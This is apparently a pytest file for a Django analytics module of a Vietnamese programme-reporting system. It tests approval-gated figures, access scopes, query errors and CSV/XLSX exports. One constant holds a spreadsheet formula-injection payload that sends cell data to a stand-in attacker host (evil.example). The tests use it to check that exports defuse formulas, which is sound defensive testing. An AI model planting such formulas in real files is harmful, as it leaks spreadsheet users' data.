"""The analytics API and pages: what the figures are, who sees which, and the exports."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from dantoc.reporting import services
from dantoc.reporting.models import Submission
from dantoc.reporting.tests.conftest import cell_keys

pytestmark = pytest.mark.django_db

API = "/api/analytics"


def enter(user, von, period, values: dict[str, str], *, today=None):
    cells = []
    for spec, value in values.items():
        indicator, project, kind, source = spec.split("/")
        [key] = cell_keys(von, indicator=indicator, DU_AN=project, LOAI_VON=kind, NGUON_VON=source)
        cells.append(services.CellInput(key, value))
    services.datavalues_save(
        actor=user, form=von, unit=user.unit, period=period, inputs=cells, source="web",
        today=today,
    )  # fmt: skip


@pytest.fixture
def figures(people, today, von, q3):
    """Lũng Cú approved (KH 500 + 300, GN 400 + 150); Ngọc Đường entered, not approved."""
    enter(people.commune, von, q3, {
        "VON_KH/DA1/DTPT/TW": "500", "VON_KH/DA2/SN/DP": "300",
        "VON_GN/DA1/DTPT/TW": "400", "VON_GN/DA2/SN/DP": "150",
    })  # fmt: skip
    services.submission_submit(actor=people.commune, form=von, unit=people.commune.unit, period=q3)
    submission = Submission.objects.get(unit=people.commune.unit, period=q3)
    services.submission_approve(actor=people.province, submission=submission)
    enter(people.other_commune, von, q3, {"VON_KH/DA1/DTPT/TW": "1000", "VON_GN/DA1/DTPT/TW": "10"})
    return q3


def rows_of(body) -> dict[tuple, str]:
    names = [h["name"] for h in body["headers"]]
    return {tuple(r[: names.index("value")]): r[names.index("value")] for r in body["rows"]}


def test_the_api_answers_dhis2_shaped_approved_figures_with_their_time(login, people, figures):
    client = login(people.province)
    response = client.get(
        API,
        {"dimension": ["dx:VON_KH;VON_GN;TL_GN", "pe:2026Q3;2026", "ou:VN;08;00715;00700"]},
    )
    assert response.status_code == 200
    body = response.json()
    assert [h["name"] for h in body["headers"]] == ["dx", "pe", "ou", "value"]
    rows = rows_of(body)
    # Only the approved commune counts, at every level and for the year too.
    for ou in ("VN", "08", "00715"):
        assert rows[("VON_KH", "2026Q3", ou)] == "800"
        assert rows[("VON_GN", "2026", ou)] == "550"
        assert rows[("TL_GN", "2026Q3", ou)] == "68.8"  # 550 / 800 × 100, a rate of sums
    assert not any(key[2] == "00700" for key in rows)
    meta = body["metaData"]
    assert meta["items"]["00715"]["name"] == "Xã Lũng Cú"
    assert meta["dimensions"]["pe"] == ["2026Q3", "2026"]
    assert meta["approvedOnly"] is True
    assert body["dataAsOf"] and body["dataAsOf"] == meta["dataAsOf"]
    assert body["height"] == len(body["rows"])


def test_unapproved_data_are_included_on_request_and_marked(login, people, figures):
    client = login(people.province)
    response = client.get(
        API,
        {"dimension": ["dx:VON_KH", "pe:2026Q3", "ou:08;00715;00700"], "includeUnapproved": "true"},
    )
    body = response.json()
    names = [h["name"] for h in body["headers"]]
    assert names[-1] == "unapproved"
    rows = {tuple(r[:3]): (r[3], r[4]) for r in body["rows"]}
    assert rows[("VON_KH", "2026Q3", "08")] == ("1800", "true")
    assert rows[("VON_KH", "2026Q3", "00715")] == ("800", "false")
    assert rows[("VON_KH", "2026Q3", "00700")] == ("1000", "true")
    assert body["metaData"]["approvedOnly"] is False


def test_unapproved_data_outside_ones_scope_are_refused(login, people, figures):
    client = login(people.other_province)
    response = client.get(
        API, {"dimension": ["dx:VON_KH", "pe:2026Q3", "ou:08"], "includeUnapproved": "true"}
    )
    assert response.status_code == 403
    # Approved figures of another province are the programme's results: readable.
    response = client.get(API, {"dimension": ["dx:VON_KH", "pe:2026Q3", "ou:08"]})
    assert rows_of(response.json())[("VON_KH", "2026Q3", "08")] == "800"


def test_an_account_without_a_reporting_role_cannot_read_analytics(login, people, figures):
    client = login(people.editor)
    response = client.get(API, {"dimension": ["dx:VON_KH", "pe:2026Q3", "ou:VN"]})
    assert response.status_code == 403
    assert response.json()["httpStatus"] == "Forbidden"
    assert client.get("/analytics/").status_code == 403


def test_disaggregations_filters_and_levels(login, people, figures):
    client = login(people.ministry)
    body = client.get(
        API,
        {"dimension": ["dx:VON_KH;TL_GN", "pe:2026Q3", "ou:08;LEVEL-commune", "NGUON_VON:TW;DP"]},
    ).json()
    rows = {tuple(r[:-1]): r[-1] for r in body["rows"]}
    assert rows[("VON_KH", "2026Q3", "00715", "TW")] == "500"
    assert rows[("VON_KH", "2026Q3", "00715", "DP")] == "300"
    assert rows[("TL_GN", "2026Q3", "00715", "TW")] == "80"
    assert rows[("TL_GN", "2026Q3", "00715", "DP")] == "50"
    assert {key[2] for key in rows} == {"00715"}  # the level's other communes have no data
    assert len(body["metaData"]["dimensions"]["ou"]) > 100  # every commune of Tuyên Quang
    body = client.get(
        API, {"dimension": ["dx:VON_KH", "ou:LEVEL-2"], "filter": ["pe:2026Q3", "NGUON_VON:DP"]}
    ).json()
    assert [h["name"] for h in body["headers"]] == ["dx", "ou", "value"]
    assert rows_of(body) == {("VON_KH", "08"): "300"}


def test_a_rate_split_by_a_category_none_of_its_terms_has_gives_no_rows(login, people, figures):
    client = login(people.ministry)
    body = client.get(API, {"dimension": ["dx:TL_GN", "pe:2026Q3", "ou:08", "DAN_TOC"]}).json()
    assert body["rows"] == []


def test_targets_refuse_huge_or_unreadable_values(login, people):
    officer = login(people.province)
    for value in ("1e30", "1000000000000000000000", "chín mươi"):
        response = officer.post(
            "/analytics/targets/?unit=08", {"code": "TL_GN", "year": "2026", "value": value}
        )
        assert response.status_code == 400, value
    assert officer.get("/analytics/?unit=08").status_code == 200


def test_merged_provinces_carry_their_predecessors_history(login, people, figures):
    client = login(people.ministry)
    old = client.get(
        API,
        {"dimension": ["dx:VON_KH", "pe:2026Q3", "ou:08"], "hierarchyDate": "2025-06-30"},
    )
    # The old Tuyên Quang ended on 30/06/2025: asked in the old tree, the new figures are
    # not there (the test of the other direction is in test_rollups).
    assert old.status_code == 200 and old.json()["rows"] == []


@pytest.mark.parametrize(
    "params, message",
    [
        ({"dimension": ["pe:2026", "ou:VN"]}, "dx"),
        ({"dimension": ["dx:KHONG_CO", "pe:2026", "ou:VN"]}, "KHONG_CO"),
        ({"dimension": ["dx:VON_KH", "pe:2026Q7", "ou:VN"]}, "2026Q7"),
        ({"dimension": ["dx:VON_KH", "pe:2026", "ou:99999"]}, "99999"),
        ({"dimension": ["dx:VON_KH", "pe:2026", "ou:VN;LEVEL-9"]}, "LEVEL-9"),
        ({"dimension": ["dx:VON_KH", "pe:2026", "ou:VN", "NGUON_VON:XX"]}, "XX"),
        ({"dimension": ["dx:VON_KH", "pe:2026", "ou:VN"], "hierarchyDate": "hôm qua"}, ""),
        ({"dimension": ["dx:VON_KH", "pe:2026C13", "ou:VN"]}, "2026C13"),
        (
            {
                "dimension": [
                    "dx:VON_KH",
                    "pe:2026",
                    "ou:LEVEL-commune",
                    "DAN_TOC",
                    "NGUON_VON",
                    "DU_AN",
                    "LOAI_VON",
                ]
            },
            "quá lớn",
        ),
    ],
)
def test_a_query_that_cannot_run_gets_a_409_saying_why(login, people, params, message):
    client = login(people.ministry)
    response = client.get(API, params)
    assert response.status_code == 409
    body = response.json()
    assert body["status"] == "ERROR" and message in body["message"]


def test_csv_answer_and_anonymous_refusal(client, login, people, figures):
    assert client.get(API, {"dimension": ["dx:VON_KH", "pe:2026Q3", "ou:VN"]}).status_code in (
        401,
        403,
    )
    officer = login(people.ministry)
    response = officer.get(API + ".csv", {"dimension": ["dx:VON_KH", "pe:2026Q3", "ou:VN"]})
    assert response["Content-Type"].startswith("text/csv")
    assert list(csv.reader(io.StringIO(response.content.decode()))) == [
        ["dx", "pe", "ou", "value"],
        ["VON_KH", "2026Q3", "VN", "800"],
    ]


def test_approval_and_reopening_move_the_national_total_at_once(login, people, figures, von):
    client = login(people.ministry)
    query = {"dimension": ["dx:VON_KH", "pe:2026Q3", "ou:VN"]}
    assert rows_of(client.get(API, query).json()) == {("VON_KH", "2026Q3", "VN"): "800"}
    services.submission_submit(
        actor=people.other_commune, form=von, unit=people.other_commune.unit, period=figures
    )
    submission = Submission.objects.get(unit=people.other_commune.unit, period=figures)
    services.submission_approve(actor=people.province, submission=submission)
    assert rows_of(client.get(API, query).json()) == {("VON_KH", "2026Q3", "VN"): "1800"}
    services.submission_return(actor=people.province, submission=submission, reason="Kiểm tra")
    assert rows_of(client.get(API, query).json()) == {("VON_KH", "2026Q3", "VN"): "800"}


def test_dashboard_shows_key_figures_targets_charts_and_the_time(login, people, figures):
    from dantoc.analytics.services import target_set

    target_set(
        actor=people.province, code="TL_GN", unit=people.province.unit, year=2026, value="90"
    )
    client = login(people.province)
    page = client.get("/analytics/", {"unit": "08", "year": "2026"})
    assert page.status_code == 200
    html = page.content.decode()
    assert "Số liệu cập nhật đến" in html and "Chỉ gồm các báo cáo đã được duyệt" in html
    assert "68,8" in html  # the disbursement rate, written the Vietnamese way
    assert "mục tiêu 90" in html  # the progress meter against the target
    assert html.count("<svg") >= 3 and "Xã Lũng Cú" in html
    assert len(page.content) < 100_000
    national = client.get("/analytics/", {"unit": "VN", "year": "2026"}).content.decode()
    assert "tile" in national and "Tỉnh Tuyên Quang" in national
    # The key figures are the unit's own, also where it has children to rank.
    import datetime

    from dantoc.analytics.selectors import dashboard
    from dantoc.geo.selectors import unit_get

    for code in ("08", "VN"):
        board = dashboard(
            unit=unit_get(code=code), year=2026, include_unapproved=False,
            today=datetime.date(2026, 10, 5),
        )  # fmt: skip
        assert {f.code: f.value for f in board.key_figures}["VON_GN"] == Decimal(550)


def test_pivot_table_and_its_xlsx_and_csv_agree(login, people, figures):
    client = login(people.province)
    params = {"dx": ["VON_KH", "TL_GN"], "pe": "2026Q3", "unit": "08", "scope": "communes"}
    page = client.get("/analytics/pivot/", params)
    assert page.status_code == 200 and "68,8" in page.content.decode()
    xlsx = client.get("/analytics/pivot/", {**params, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    lines = {row[0]: row for row in sheet.iter_rows(values_only=True) if row and row[0]}
    assert lines["00715"][2:4] == (800, 68.8)
    text = client.get("/analytics/pivot/", {**params, "format": "csv"}).content.decode("utf-8-sig")
    found = {r[0]: r for r in csv.reader(io.StringIO(text)) if r}
    assert found["00715"][1] == "Xã Lũng Cú" and found["00715"][2:4] == ["800", "68.8"]
    bad = client.get("/analytics/pivot/", {**params, "pe": "2026Q9"})
    assert bad.status_code == 400 and "2026Q9" in bad.content.decode()


def test_an_answer_of_one_dimension_has_rows_of_its_item_and_value(login, people, figures):
    body = (
        login(people.ministry)
        .get(API, {"dimension": ["dx:VON_KH"], "filter": ["pe:2026Q3", "ou:00715"]})
        .json()
    )
    assert [h["name"] for h in body["headers"]] == ["dx", "value"]
    assert body["rows"] == [["VON_KH", "800"]]


def test_a_commune_reporters_pivot_shows_its_own_figures_by_default(login, people, figures):
    """A commune has no units under it: without a scope, the table is the commune's own
    figures, not an empty table of its (no) children."""
    page = login(people.commune).get("/analytics/pivot/", {"dx": "VON_KH", "pe": "2026Q3"})
    body = page.content.decode()
    assert page.status_code == 200
    assert '<th scope="row">Xã Lũng Cú</th><td class="num">800</td>' in body
    assert '<option value="self" selected' in body
    province = login(people.province).get("/analytics/pivot/", {"dx": "VON_KH", "pe": "2026Q3"})
    assert '<option value="children" selected' in province.content.decode()
    # The commune dashboard's link to the detailed table leads there too.
    dashboard = login(people.commune).get("/analytics/", {"unit": "00715", "year": "2026"})
    link = re.search(r'href="(/analytics/pivot/[^"]+)"', dashboard.content.decode())
    assert link is not None and "scope=" not in link.group(1)


def test_officers_set_targets_in_their_scope_and_reporters_cannot(login, people):
    from dantoc.analytics.models import Target

    officer = login(people.province)
    response = officer.post(
        "/analytics/targets/?unit=08", {"code": "TL_GN", "year": "2026", "value": "92,5"}
    )
    assert response.status_code == 302
    assert Target.objects.get(code="TL_GN", unit__code="08", year=2026).value == Decimal("92.5")
    assert (
        officer.post(
            "/analytics/targets/?unit=08", {"code": "TL_GN", "year": "2026", "value": "abc"}
        ).status_code
        == 400
    )
    reporter = login(people.commune)
    assert (
        reporter.post(
            "/analytics/targets/?unit=00715", {"code": "TL_GN", "year": "2026", "value": "1"}
        ).status_code
        == 403
    )
    assert not Target.objects.filter(unit__code="00715").exists()


def test_a_dimension_given_twice_is_one_column(login, people, figures):
    client = login(people.province)
    response = client.get(
        API, {"dimension": ["dx:VON_KH", "dx:VON_GN;VON_KH", "pe:2026Q3", "ou:08"]}
    )
    body = response.json()
    assert [h["name"] for h in body["headers"]] == ["dx", "pe", "ou", "value"]
    assert sorted(r[0] for r in body["rows"]) == ["VON_GN", "VON_KH"]


def test_a_category_filter_leaves_out_indicators_without_that_category(login, people, households):
    client = login(people.ministry)
    body = client.get(
        API,
        {"dimension": ["dx:DA1_HO_NHA_O", "ou:08"], "filter": ["pe:2026S1", "DAN_TOC:08"]},
    ).json()
    assert rows_of(body) == {("DA1_HO_NHA_O", "08"): "65"}  # Mông: 40 + 25
    body = client.get(
        API,
        {"dimension": ["dx:DA1_HO_NHA_O", "ou:08"], "filter": ["pe:2026S1", "NGUON_VON:TW"]},
    ).json()
    assert body["rows"] == []  # households have no funding source: nothing is "central"


def test_last_takes_each_communes_latest_report_whole_so_splits_add_up(people, today, von, q3):
    """A "last" figure over a year is each commune's latest report with data, all its cells:
    a project left out of the later report is not carried over, so the figures split by
    project add up to the total, and a single quarter is that quarter's figures."""
    import datetime

    from dantoc.analytics.query import AnalyticsRequest, analytics_run

    q2 = services.period_resolve(period_type=von.period_type, code="2026Q2")
    commune = people.commune
    for period, day, values in (
        (
            q2,
            datetime.date(2026, 7, 5),
            {
                "VON_KH/DA1/DTPT/TW": "200",
                "VON_KH/DA2/SN/DP": "100",
                "VON_GN/DA1/DTPT/TW": "100",
                "VON_GN/DA2/SN/DP": "50",
            },
        ),
        (q3, today, {"VON_KH/DA1/DTPT/TW": "500", "VON_GN/DA1/DTPT/TW": "400"}),
    ):
        cells = []
        for spec, value in values.items():
            indicator, project, kind, source = spec.split("/")
            [key] = cell_keys(
                von, indicator=indicator, DU_AN=project, LOAI_VON=kind, NGUON_VON=source
            )
            cells.append(services.CellInput(key, value))
        services.datavalues_save(
            actor=commune, form=von, unit=commune.unit, period=period, inputs=cells,
            source="web", today=day,
        )  # fmt: skip
        services.submission_submit(
            actor=commune, form=von, unit=commune.unit, period=period, today=day
        )
        submission = Submission.objects.get(unit=commune.unit, period=period)
        services.submission_approve(actor=people.province, submission=submission)

    units = [commune.unit.code, people.province.unit.code, "VN"]
    total = analytics_run(AnalyticsRequest(dx=["VON_GN"], pe=["2026", "2026Q2"], ou=units))
    split = analytics_run(
        AnalyticsRequest(dx=["VON_GN"], pe=["2026"], ou=units, categories={"DU_AN": []})
    )
    for ou in units:
        assert total.value(pe="2026", ou=ou) == Decimal(400)
        assert total.value(pe="2026Q2", ou=ou) == Decimal(150)
        assert {r.keys["DU_AN"]: r.value for r in split.rows if r.keys["ou"] == ou} == {
            "DA1": Decimal(400)
        }


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem")'


def indicator_rename(people, code: str, name: str) -> None:
    from dantoc.indicators.models import Indicator
    from dantoc.indicators.services import indicator_save

    indicator = Indicator.objects.get(code=code)
    indicator.name = name
    indicator_save(
        actor=people.ministry, indicator=indicator, categories=list(indicator.categories.all())
    )


@pytest.fixture
def negative(people, today, von, q3):
    """Lũng Cú entered a negative plan (a correction, -500 + 300; the form's rules stop it
    at submission, so it stays unapproved) under an indicator whose name is a formula."""
    indicator_rename(people, "VON_KH", HYPERLINK)
    enter(people.commune, von, q3, {"VON_KH/DA1/DTPT/TW": "-500", "VON_KH/DA2/SN/DP": "300"})
    return q3


def test_pivot_exports_keep_a_formula_name_as_text_and_negative_figures_as_numbers(
    login, people, negative
):
    client = login(people.province)
    params = {"dx": ["VON_KH"], "pe": "2026Q3", "unit": "08", "scope": "communes", "all": "1"}
    text = client.get("/analytics/pivot/", {**params, "format": "csv"}).content.decode("utf-8-sig")
    rows = [r for r in csv.reader(io.StringIO(text)) if r]
    assert rows[0][2].startswith("'" + HYPERLINK)
    assert not any(cell[:1] and cell[0] in "=+@" for row in rows for cell in row)
    found = {r[0]: r for r in rows}
    assert found["00715"][2] == "-200"  # a number a spreadsheet adds up, not text
    xlsx = client.get("/analytics/pivot/", {**params, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    header = sheet.cell(row=1, column=3)
    assert header.data_type == "s" and header.value.startswith("=HYPERLINK(")
    assert header.quotePrefix is True
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    lines = {row[0].value: row for row in sheet.iter_rows() if row and row[0].value}
    assert lines["00715"][2].value == -200 and lines["00715"][2].data_type == "n"


def test_analytics_csv_writes_a_negative_figure_as_a_number(login, people, negative):
    response = login(people.province).get(
        API + ".csv",
        {"dimension": ["dx:VON_KH", "pe:2026Q3", "ou:00715"], "includeUnapproved": "true"},
    )
    assert list(csv.reader(io.StringIO(response.content.decode()))) == [
        ["dx", "pe", "ou", "value", "unapproved"],
        ["VON_KH", "2026Q3", "00715", "-200", "true"],
    ]
